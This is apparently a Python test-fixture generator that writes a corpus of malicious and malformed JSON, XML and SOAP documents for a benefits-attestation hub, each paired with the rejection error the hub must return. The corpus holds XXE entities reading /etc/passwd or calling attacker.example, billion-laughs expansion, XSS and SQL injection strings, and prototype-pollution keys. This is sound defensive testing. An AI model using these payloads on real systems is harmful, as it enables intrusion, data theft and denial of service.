#!/usr/bin/env python3
"""Writes the hostile-input corpus: one file per malicious or malformed document, and index.json saying
where each goes (REST or SOAP 1.1/1.2), with which headers, and what the hub must answer.
Run from anywhere: python3 tests/StatuutHub.Host.Tests/Hostile/make-corpus.py (it rewrites corpus/).
Huge documents are stored gzip-compressed (.gz); the test sends them decompressed."""
import gzip, json, os, re, shutil

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "corpus")
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
BASE_JSON = json.load(open(os.path.join(ROOT, "schemas/examples/attest/valid/all-benefits.json"), encoding="utf-8"))
BASE_XML = open(os.path.join(ROOT, "schemas/examples/attest/valid/all-benefits.xml"), encoding="utf-8").read()
BASE_XML = re.sub(r"^<\?xml[^>]*\?>\s*", "", BASE_XML)
S11 = "http://schemas.xmlsoap.org/soap/envelope/"
S12 = "http://www.w3.org/2003/05/soap-envelope"
ACT = "urn:be:statuuthub:soap:v1/"
entries = []
if os.path.isdir(OUT):
    shutil.rmtree(OUT)
os.makedirs(OUT)

def add(name, body, target, expect, content_type=None, action=None, about=""):
    data = body.encode("utf-8") if isinstance(body, str) else body
    folder = {"rest": "rest", "soap11": "soap", "soap12": "soap"}[target]
    path = f"{folder}/{name}"
    if len(data) > 64_000:
        path += ".gz"
        data = gzip.compress(data, mtime=0)
    os.makedirs(os.path.join(OUT, folder), exist_ok=True)
    with open(os.path.join(OUT, path), "wb") as f:
        f.write(data)
    if content_type is None:
        content_type = {"rest": "application/json" if name.endswith(".json") else "application/xml",
                        "soap11": "text/xml; charset=utf-8", "soap12": "application/soap+xml; charset=utf-8"}[target]
        if target == "soap12":
            content_type += f'; action="{action or ACT + "SubmitAttest"}"'
    entry = {"file": path, "target": target, "contentType": content_type, "expect": expect, "about": about}
    if target == "soap11":
        entry["soapAction"] = action if action is not None else ACT + "SubmitAttest"
    entries.append(entry)

def j(mutate):
    doc = json.loads(json.dumps(BASE_JSON))
    mutate(doc)
    return json.dumps(doc, ensure_ascii=False, indent=1)

def setp(path, value):
    def m(doc):
        node = doc
        for k in path[:-1]:
            node = node[k]
        node[path[-1]] = value
    return m

def x(replace_from, replace_to, count=1):
    assert replace_from in BASE_XML, replace_from
    return BASE_XML.replace(replace_from, replace_to, count)

def env11(inner, op="SubmitAttestRequest", header=""):
    return f'<s:Envelope xmlns:s="{S11}">{header}<s:Body><{op} xmlns="urn:be:statuuthub:soap:v1">{inner}</{op}></s:Body></s:Envelope>'

def env12(inner, op="SubmitAttestRequest", header=""):
    return f'<s:Envelope xmlns:s="{S12}">{header}<s:Body><{op} xmlns="urn:be:statuuthub:soap:v1">{inner}</{op}></s:Body></s:Envelope>'

BAD = "400:"
FAULT = "fault:"
valid_json = json.dumps(BASE_JSON)

# ---------- REST, JSON ----------
add("dup-key-top.json", valid_json[:-1] + ', "attestId": "3f2b8c1e-6a53-4a8e-9f61-0c1d2e3f4a5c"}', "rest", BAD + "JSON_DUPLICATE_KEY", about="duplicate key at the top")
add("dup-key-insz.json", valid_json.replace('"insz": "85073003328"', '"insz": "85073003328", "insz": "90010100155"'), "rest", BAD + "JSON_DUPLICATE_KEY", about="second INSZ hidden by a duplicate key")
add("dup-key-benefits.json", valid_json.replace('"benefits":', '"benefits": [], "benefits":'), "rest", BAD + "JSON_DUPLICATE_KEY")
add("dup-key-kbo.json", valid_json.replace('"kbo": "0123456749"', '"kbo": "0123456749", "kbo": "0987654394"'), "rest", BAD + "JSON_DUPLICATE_KEY", about="smuggle another initiative's KBO")
add("case-variant-key.json", valid_json[:-1] + ', "AttestId": "x"}', "rest", BAD + "SCHEMA_UNKNOWN_FIELD")
add("proto-key.json", valid_json[:-1] + ', "__proto__": {"admin": true}}', "rest", BAD + "SCHEMA_UNKNOWN_FIELD", about="prototype pollution key")
add("constructor-key.json", valid_json.replace('"participant": {', '"participant": {"constructor": {"prototype": {}},'), "rest", BAD + "SCHEMA_UNKNOWN_FIELD")
for depth in (17, 100, 10_000, 50_000):
    add(f"deep-arrays-{depth}.json", "[" * depth + "]" * depth, "rest", BAD + "JSON_TOO_DEEP", about=f"{depth} nested arrays")
add("deep-objects-5000.json", '{"a":' * 5000 + "1" + "}" * 5000, "rest", BAD + "JSON_TOO_DEEP")
add("deep-in-field.json", valid_json.replace('"description": "houtbewerking, onder begeleiding"', '"description": ' + "[" * 40 + "]" * 40), "rest", BAD + "JSON_TOO_DEEP")
raw = valid_json.encode("utf-8")
for label, bad in [("lone-continuation", b"\x80"), ("overlong-slash", b"\xc0\xaf"), ("truncated-euro", b"\xe2\x82"), ("surrogate", b"\xed\xa0\x80"), ("ff-byte", b"\xff"), ("overlong-nul", b"\xc0\x80")]:
    add(f"utf8-{label}.json", raw.replace(b"Peeters", b"Pee" + bad + b"ters"), "rest", BAD + "MALFORMED_JSON", about="invalid UTF-8 in a name")
add("utf16le-with-bom.json", b"\xff\xfe" + valid_json.encode("utf-16-le"), "rest", BAD + "MALFORMED_JSON")
add("utf32.json", valid_json.encode("utf-32"), "rest", BAD + "MALFORMED_JSON")
for label, value in [("1e400", "1e400"), ("huge-int", "99999999999999999999999999999"), ("1e20", "1e20"), ("negative", "-1"), ("nan", "NaN"), ("infinity", "Infinity"), ("hex", "0x10"), ("string", '"16"'), ("null", "null"), ("precision", "16.0000000000000000000000001")]:
    expect = {"1e400": "SCHEMA_RANGE", "huge-int": "SCHEMA_RANGE", "1e20": "SCHEMA_RANGE", "negative": "SCHEMA_RANGE", "nan": "MALFORMED_JSON", "infinity": "MALFORMED_JSON",
              "hex": "MALFORMED_JSON", "string": "SCHEMA_TYPE", "null": "SCHEMA_TYPE", "precision": "AMOUNT_PRECISION"}[label]
    add(f"hours-{label}.json", valid_json.replace('"hoursPerWeek": 16', f'"hoursPerWeek": {value}'), "rest", BAD + expect, about=f"hoursPerWeek {value}")
add("allowance-negative.json", j(setp(["activity", "expenseAllowancePerDay"], -4.5)), "rest", BAD + "SCHEMA_RANGE")
add("allowance-1e308.json", valid_json.replace('"expenseAllowancePerDay": 4.5', '"expenseAllowancePerDay": 1e308'), "rest", BAD + "SCHEMA_RANGE")
for label, value in [("nul", "Pee\u0000ters"), ("bell", "Pee\u0007ters"), ("ansi-escape", "\u001b[31mPeeters"), ("nel", "Pee\u0085ters"), ("newline", "Pee\nters"), ("rtl-override", "\u202eSreteep"), ("zero-width", "Pee\u200bters")]:
    add(f"control-{label}.json", j(setp(["participant", "familyName"], value)), "rest", BAD + "SCHEMA_PATTERN", about="control or format character in a name")
add("control-raw-tab.json", valid_json.replace('"Peeters"', '"Pee\tters"'), "rest", BAD + "MALFORMED_JSON", about="raw control character inside a JSON string")
for label, path, value in [
    ("script-family", ["participant", "familyName"], "<script>alert(1)</script>"),
    ("script-given", ["participant", "givenName"], "\"><script>alert(document.cookie)</script>"),
    ("img-onerror", ["participant", "familyName"], "<img src=x onerror=alert(1)>"),
    ("javascript-url", ["participant", "givenName"], "javascript:alert(1)"),
    ("svg-initiative", ["initiative", "name"], "<svg onload=alert(1)>"),
    ("iframe-workplace", ["activity", "workplace"], "<iframe src=//evil.example>"),
    ("template-injection", ["participant", "familyName"], "{{7*7}}"),
    ("html-entity", ["participant", "familyName"], "&lt;script&gt;"),
]:
    add(f"{label}.json", j(setp(path, value)), "rest", BAD + "SCHEMA_PATTERN", about="markup or script in a name")
for label, path, value, code in [
    ("sql-attestid", ["attestId"], "' OR '1'='1", "SCHEMA_PATTERN"),
    ("sql-kbo", ["initiative", "kbo"], "0123456749' OR 1=1--", "SCHEMA_PATTERN"),
    ("sql-insz", ["participant", "insz"], "85073003328; DROP TABLE attests", "SCHEMA_PATTERN"),
    ("sql-family", ["participant", "familyName"], "Robert'); DROP TABLE attests;--", "SCHEMA_PATTERN"),
    ("sql-nis", ["participant", "residenceNis"], "44021 UNION SELECT insz FROM attests", "SCHEMA_PATTERN"),
    ("sql-landsbond", ["participant", "landsbond"], "100' --", "SCHEMA_PATTERN"),
    ("sql-kind", ["kind"], "AMA_WSE' OR 'x'='x", "SCHEMA_ENUM"),
    ("sql-date", ["activity", "startDate"], "2027-01-04'; --", "SCHEMA_DATE"),
    ("sql-benefit", ["benefits"], ["UNEMPLOYMENT' OR 1=1 --"], "SCHEMA_ENUM"),
]:
    add(f"{label}.json", j(setp(path, value)), "rest", BAD + code, about="SQL metacharacters")
for label, path, value, code in [
    ("long-family-101", ["participant", "familyName"], "A" * 101, "SCHEMA_LENGTH"),
    ("long-family-10k", ["participant", "familyName"], "A" * 10_000, "SCHEMA_LENGTH"),
    ("long-initiative-201", ["initiative", "name"], "B" * 201, "SCHEMA_LENGTH"),
    ("long-workplace-100k", ["activity", "workplace"], "C" * 100_000, "SCHEMA_LENGTH"),
    ("long-description-1001", ["activity", "description"], "D" * 1001, "SCHEMA_LENGTH"),
    ("long-attestid", ["attestId"], "3f2b8c1e-" * 5000, "SCHEMA_PATTERN"),
    ("long-insz", ["participant", "insz"], "8" * 1000, "SCHEMA_PATTERN"),
    ("long-benefits", ["benefits"], ["UNEMPLOYMENT"] * 5000, "SCHEMA_DUPLICATE_ITEM"),
]:
    add(f"{label}.json", j(setp(path, value)), "rest", BAD + code, about="overlong value")
add("huge-300k.json", j(setp(["activity", "description"], "x" * 300_000)), "rest", "413:DOCUMENT_TOO_LARGE", about="over the 256 KiB document cap")
add("huge-2m.json", j(setp(["activity", "description"], "x" * 2_000_000)), "rest", "413:REQUEST_TOO_LARGE", about="over the 1 MiB request cap")
add("huge-benefits-array.json", j(setp(["benefits"], ["UNEMPLOYMENT"] * 120_000)), "rest", "413:REQUEST_TOO_LARGE")
for label, ct in [("text-plain", "text/plain"), ("form", "application/x-www-form-urlencoded"), ("multipart", "multipart/form-data; boundary=x"), ("javascript", "application/javascript"), ("html", "text/html"), ("none", "")]:
    add(f"content-type-{label}.json", valid_json, "rest", "415:UNSUPPORTED_MEDIA_TYPE", content_type=ct, about="wrong content type")
add("json-sent-as-xml.json", valid_json, "rest", BAD + "MALFORMED_XML", content_type="application/xml")
add("xml-sent-as-json.xml", BASE_XML, "rest", BAD + "MALFORMED_JSON", content_type="application/json")
for label, body, code in [("top-array", "[1,2]", "SCHEMA_TYPE"), ("top-string", '"attest"', "SCHEMA_TYPE"), ("top-null", "null", "SCHEMA_TYPE"), ("top-number", "42", "SCHEMA_TYPE"),
                          ("top-true", "true", "SCHEMA_TYPE"), ("empty-object", "{}", "SCHEMA_REQUIRED"), ("empty", "", "DOCUMENT_EMPTY"), ("whitespace", "   \n\t ", "MALFORMED_JSON")]:
    add(f"{label}.json", body, "rest", BAD + code)
add("benefits-object.json", j(setp(["benefits"], {"UNEMPLOYMENT": True})), "rest", BAD + "SCHEMA_TYPE")
add("participant-string.json", j(setp(["participant"], "85073003328")), "rest", BAD + "SCHEMA_TYPE")
for label, body in [("comment", valid_json.replace("{", "{/* admin */", 1)), ("trailing-comma", valid_json[:-1] + ",}"), ("single-quotes", valid_json.replace('"kind"', "'kind'")),
                    ("unquoted-key", valid_json.replace('"kind"', "kind")), ("two-documents", valid_json + valid_json), ("truncated", valid_json[: len(valid_json) // 2])]:
    add(f"syntax-{label}.json", body, "rest", BAD + "MALFORMED_JSON")
for label, path, value, code in [
    ("arabic-digits-insz", ["participant", "insz"], "٨٥٠٧٣٠٠٣٣٢٨", "SCHEMA_PATTERN"),
    ("fullwidth-kbo", ["initiative", "kbo"], "０１２３４５６７４９", "SCHEMA_PATTERN"),
    ("date-feb-30", ["participant", "birthDate"], "1985-02-30", "SCHEMA_DATE"),
    ("date-five-digit-year", ["activity", "startDate"], "99999-01-01", "SCHEMA_DATE"),
    ("date-month-13", ["activity", "endDate"], "2027-13-01", "SCHEMA_DATE"),
    ("date-zero", ["participant", "birthDate"], "0000-00-00", "SCHEMA_DATE"),
]:
    add(f"{label}.json", j(setp(path, value)), "rest", BAD + code)

# ---------- REST, XML ----------
def doctype(dtd, body):
    return f"<?xml version=\"1.0\"?>\n{dtd}\n{body}"
fam = "<familyName>Peeters</familyName>"
for label, dtd in [
    ("xxe-file-passwd", '<!DOCTYPE attest [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ("xxe-file-environ", '<!DOCTYPE attest [<!ENTITY x SYSTEM "file:///proc/self/environ">]>'),
    ("xxe-network-loopback", '<!DOCTYPE attest [<!ENTITY x SYSTEM "http://127.0.0.1:1/secret">]>'),
    ("xxe-network-remote", '<!DOCTYPE attest [<!ENTITY x SYSTEM "https://attacker.example/x">]>'),
    ("xxe-ftp", '<!DOCTYPE attest [<!ENTITY x SYSTEM "ftp://attacker.example/x">]>'),
    ("xxe-parameter-entity", '<!DOCTYPE attest [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>'),
    ("xxe-public", '<!DOCTYPE attest [<!ENTITY x PUBLIC "-//X//Y" "file:///etc/hostname">]>'),
]:
    add(f"{label}.xml", doctype(dtd, x(fam, "<familyName>&x;</familyName>") if "parameter" not in label else BASE_XML), "rest", BAD + "XML_DTD_PROHIBITED", about="external entity")
laughs = '<!DOCTYPE attest [<!ENTITY a "lol">' + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9)) + "]>"
add("billion-laughs.xml", doctype(laughs, x(fam, "<familyName>&j;</familyName>")), "rest", BAD + "XML_DTD_PROHIBITED", about="exponential entity expansion")
add("quadratic-blowup.xml", doctype('<!DOCTYPE attest [<!ENTITY q "' + "Q" * 50_000 + '">]>', x(fam, "<familyName>" + "&q;" * 2000 + "</familyName>")), "rest", BAD + "XML_DTD_PROHIBITED")
add("external-dtd-system.xml", doctype('<!DOCTYPE attest SYSTEM "http://attacker.example/attest.dtd">', BASE_XML), "rest", BAD + "XML_DTD_PROHIBITED")
add("external-dtd-file.xml", doctype('<!DOCTYPE attest PUBLIC "-//X//DTD" "file:///etc/passwd">', BASE_XML), "rest", BAD + "XML_DTD_PROHIBITED")
add("internal-dtd-only.xml", doctype('<!DOCTYPE attest [<!ELEMENT attest ANY>]>', BASE_XML), "rest", BAD + "XML_DTD_PROHIBITED")
add("xinclude.xml", x(fam, '<familyName>Peeters</familyName><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), "rest", BAD + "SCHEMA_UNKNOWN_FIELD", about="XInclude is never processed")
for depth in (33, 1000, 30_000):
    add(f"deep-{depth}.xml", x(fam, fam + "<extra>" + "<d>" * depth + "</d>" * depth + "</extra>"), "rest", BAD + "MALFORMED_XML", about=f"{depth} nested elements")
xraw = BASE_XML.encode("utf-8")
for label, bad in [("lone-continuation", b"\x80"), ("overlong", b"\xc0\xaf"), ("ff-byte", b"\xff")]:
    add(f"utf8-{label}.xml", xraw.replace(b"Peeters", b"Pee" + bad + b"ters"), "rest", BAD + "MALFORMED_XML")
add("declared-utf16-but-utf8.xml", '<?xml version="1.0" encoding="UTF-16"?>' + BASE_XML, "rest", BAD + "MALFORMED_XML")
add("declared-unknown-encoding.xml", '<?xml version="1.0" encoding="x-evil-7"?>' + BASE_XML, "rest", BAD + "MALFORMED_XML")
ns = 'xmlns="urn:be:statuuthub:attest:v1"'
for label, replacement, code in [
    ("no-namespace", "", "XML_WRONG_ROOT"),
    ("other-namespace", 'xmlns="urn:evil:attest"', "XML_WRONG_ROOT"),
    ("soap-namespace", f'xmlns="{S11}"', "XML_WRONG_ROOT"),
    ("namespace-v3", 'xmlns="urn:be:statuuthub:attest:v3"', "XML_WRONG_ROOT"),  # v1 and v2 exist; v3 does not
    ("namespace-trailing-slash", 'xmlns="urn:be:statuuthub:attest:v1/"', "XML_WRONG_ROOT"),
]:
    add(f"wrong-{label}.xml", BASE_XML.replace(ns, replacement, 1), "rest", BAD + code, about="wrong namespace")
add("wrong-child-namespace.xml", x("<participant>", '<participant xmlns="urn:evil">'), "rest", BAD + "SCHEMA_REQUIRED")
add("wrong-root-html.xml", "<html><body><script>alert(1)</script></body></html>", "rest", BAD + "XML_WRONG_ROOT")
add("wrong-root-attests.xml", f'<attests {ns}>{BASE_XML}</attests>', "rest", BAD + "XML_WRONG_ROOT")
add("cdata-script.xml", x(fam, "<familyName><![CDATA[<script>alert(1)</script>]]></familyName>"), "rest", BAD + "SCHEMA_PATTERN")
add("charref-control-1.xml", x(fam, "<familyName>Pee&#x1;ters</familyName>"), "rest", BAD + "MALFORMED_XML", about="a character XML 1.0 forbids")
add("charref-escape.xml", x(fam, "<familyName>&#x1b;[31mPeeters</familyName>"), "rest", BAD + "MALFORMED_XML")
add("charref-nel.xml", x(fam, "<familyName>Pee&#x85;ters</familyName>"), "rest", BAD + "SCHEMA_PATTERN", about="a C1 control character")
add("charref-script.xml", x(fam, "<familyName>&#60;script&#62;alert(1)&#60;/script&#62;</familyName>"), "rest", BAD + "SCHEMA_PATTERN")
add("sql-family.xml", x(fam, "<familyName>Robert'); DROP TABLE attests;--</familyName>"), "rest", BAD + "SCHEMA_PATTERN")
add("sql-kbo.xml", x("<kbo>0123456749</kbo>", "<kbo>0123456749' OR 1=1--</kbo>") if "<kbo>0123456749</kbo>" in BASE_XML else x("<kbo>", "<kbo>' OR 1=1--"), "rest", BAD + "SCHEMA_PATTERN")
add("sql-attestid.xml", re.sub(r"<attestId>[^<]+</attestId>", "<attestId>1; DELETE FROM deliveries</attestId>", BASE_XML), "rest", BAD + "SCHEMA_PATTERN")
add("sql-insz.xml", re.sub(r"<insz>[^<]+</insz>", "<insz>' UNION SELECT * FROM attests --</insz>", BASE_XML), "rest", BAD + "SCHEMA_PATTERN")
add("long-family.xml", x(fam, "<familyName>" + "A" * 5000 + "</familyName>"), "rest", BAD + "SCHEMA_LENGTH")
add("long-initiative.xml", re.sub(r"<name>[^<]+</name>", "<name>" + "B" * 1000 + "</name>", BASE_XML, count=1), "rest", BAD + "SCHEMA_LENGTH")
add("long-insz.xml", re.sub(r"<insz>[^<]+</insz>", "<insz>" + "8" * 5000 + "</insz>", BASE_XML), "rest", BAD + "SCHEMA_PATTERN")
for label, value, code in [("1e400", "1e400", "SCHEMA_TYPE"), ("negative", "-5", "SCHEMA_RANGE"), ("nan", "NaN", "SCHEMA_TYPE"), ("inf", "INF", "SCHEMA_TYPE"), ("huge", "9" * 40, "SCHEMA_TYPE")]:
    add(f"hours-{label}.xml", re.sub(r"<hoursPerWeek>[^<]+</hoursPerWeek>", f"<hoursPerWeek>{value}</hoursPerWeek>", BASE_XML), "rest", BAD + code)
add("huge-300k.xml", x(fam, fam + "<!--" + "x" * 300_000 + "-->"), "rest", "413:DOCUMENT_TOO_LARGE")
add("huge-3m.xml", x(fam, fam + "<!--" + "x" * 3_000_000 + "-->"), "rest", "413:REQUEST_TOO_LARGE")
add("duplicate-insz-element.xml", re.sub(r"(<insz>[^<]+</insz>)", r"\1<insz>90010100155</insz>", BASE_XML), "rest", BAD + "SCHEMA_REQUIRED", about="a second INSZ where the name must follow")
add("two-roots.xml", BASE_XML + BASE_XML, "rest", BAD + "MALFORMED_XML")
add("trailing-garbage.xml", BASE_XML + "<script>", "rest", BAD + "MALFORMED_XML")
add("not-xml.xml", "this is not xml at all", "rest", BAD + "MALFORMED_XML")
add("empty.xml", "", "rest", BAD + "DOCUMENT_EMPTY")

# ---------- SOAP 1.1 and 1.2 ----------
for version, env, target in [("11", env11, "soap11"), ("12", env12, "soap12")]:
    ns_env = S11 if version == "11" else S12
    def soap(name, body, expect, action=None, content_type=None, about=""):
        add(f"soap{version}-{name}.xml", body, target, FAULT + expect, action=action, content_type=content_type, about=about)
    soap("action-amend-for-submit", env(BASE_XML), "SOAP_ACTION_MISMATCH", action=ACT + "AmendAttest")
    soap("action-cancel-for-submit", env(BASE_XML), "SOAP_ACTION_MISMATCH", action=ACT + "CancelAttest")
    soap("action-unknown", env(BASE_XML), "SOAP_ACTION_MISMATCH", action="urn:evil/DropTables")
    soap("action-other-service", env(BASE_XML), "SOAP_ACTION_MISMATCH", action="http://tempuri.org/IService/SubmitAttest")
    soap("action-status-for-submit", env(BASE_XML), "SOAP_ACTION_MISMATCH", action=ACT + "GetAttestStatus")
    for label, dtd in [("xxe-file", '<!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), ("xxe-network", '<!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "http://127.0.0.1:1/">]>'),
                       ("billion-laughs", laughs.replace("attest", "s:Envelope")), ("external-dtd", '<!DOCTYPE s:Envelope SYSTEM "http://attacker.example/soap.dtd">'),
                       ("parameter-entity", '<!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>')]:
        inner = x(fam, "<familyName>&x;</familyName>") if "xxe" in label else (x(fam, "<familyName>&j;</familyName>") if "laughs" in label else BASE_XML)
        soap(label, dtd + env(inner), "XML_DTD_PROHIBITED", about="entity or DTD in the envelope")
    other = S12 if version == "11" else S11
    soap("envelope-of-the-other-version", env(BASE_XML).replace(ns_env, other), "SOAP_VERSION_MISMATCH")
    soap("envelope-namespace-typo", env(BASE_XML).replace(ns_env, ns_env.rstrip("/") + "x"), "SOAP_VERSION_MISMATCH")
    soap("no-body", f'<s:Envelope xmlns:s="{ns_env}"><s:Header/></s:Envelope>', "SOAP_VERSION_MISMATCH")
    soap("empty-body", f'<s:Envelope xmlns:s="{ns_env}"><s:Body/></s:Envelope>', "UNKNOWN_OPERATION")
    soap("unknown-operation", env("", op="DeleteAllAttestsRequest"), "UNKNOWN_OPERATION", action=ACT + "DeleteAllAttests")
    soap("operation-wrong-namespace", env(BASE_XML).replace('xmlns="urn:be:statuuthub:soap:v1"', 'xmlns="urn:evil"'), "UNKNOWN_OPERATION")
    soap("must-understand-header", env(BASE_XML, header=f'<s:Header><sec:Token xmlns:sec="urn:x" s:mustUnderstand="{1 if version == "11" else "true"}">t</sec:Token></s:Header>'), "MUST_UNDERSTAND")
    soap("attest-missing", env(""), "SCHEMA_REQUIRED")
    soap("attest-wrong-namespace", env(BASE_XML.replace(ns, 'xmlns="urn:evil"', 1)), "SCHEMA_REQUIRED")
    soap("attest-script-name", env(x(fam, "<familyName>&lt;script&gt;alert(1)&lt;/script&gt;</familyName>")), "VALIDATION_FAILED")
    soap("attest-sql-name", env(x(fam, "<familyName>x'); DROP TABLE attests;--</familyName>")), "VALIDATION_FAILED")
    soap("attest-control-char", env(x(fam, "<familyName>Pee&#x85;ters</familyName>")), "VALIDATION_FAILED")
    soap("attest-overlong-name", env(x(fam, "<familyName>" + "A" * 3000 + "</familyName>")), "VALIDATION_FAILED")
    soap("attest-hours-nan", env(re.sub(r"<hoursPerWeek>[^<]+</hoursPerWeek>", "<hoursPerWeek>NaN</hoursPerWeek>", BASE_XML)), "VALIDATION_FAILED")
    soap("status-sql-id", env("<attestId>' OR 1=1 --</attestId>", op="GetAttestStatusRequest"), "SCHEMA_PATTERN", action=ACT + "GetAttestStatus")
    soap("status-overlong-id", env("<attestId>" + "f" * 10_000 + "</attestId>", op="GetAttestStatusRequest"), "SCHEMA_PATTERN", action=ACT + "GetAttestStatus")
    soap("cancel-missing-id", env("", op="CancelAttestRequest"), "SCHEMA_PATTERN", action=ACT + "CancelAttest")
    soap("cancel-unknown-id", env("<attestId>00000000-0000-4000-8000-000000000000</attestId>", op="CancelAttestRequest"), "ATTEST_NOT_FOUND", action=ACT + "CancelAttest")
    soap("deep-nesting", env(BASE_XML).replace("<s:Body>", "<s:Body>" + "<d>" * 5000, 1).replace("</s:Body>", "</d>" * 5000 + "</s:Body>", 1), "MALFORMED_XML")
    soap("invalid-utf8", env(BASE_XML).encode("utf-8").replace(b"Peeters", b"Pee\xc0\xafters"), "MALFORMED_XML")
    soap("not-xml", "SELECT * FROM attests", "MALFORMED_XML")
    soap("truncated", env(BASE_XML)[:400], "MALFORMED_XML")
    soap("huge-300k", env(x(fam, fam + "<!--" + "x" * 300_000 + "-->")), "DOCUMENT_TOO_LARGE")
    soap("content-type-json", env(BASE_XML), "UNSUPPORTED_MEDIA_TYPE", content_type="application/json")
    soap("content-type-plain", env(BASE_XML), "UNSUPPORTED_MEDIA_TYPE", content_type="text/plain")

with open(os.path.join(OUT, "index.json"), "w", encoding="utf-8") as f:
    json.dump(entries, f, ensure_ascii=False, indent=1)
print(f"{len(entries)} documents in {OUT}")
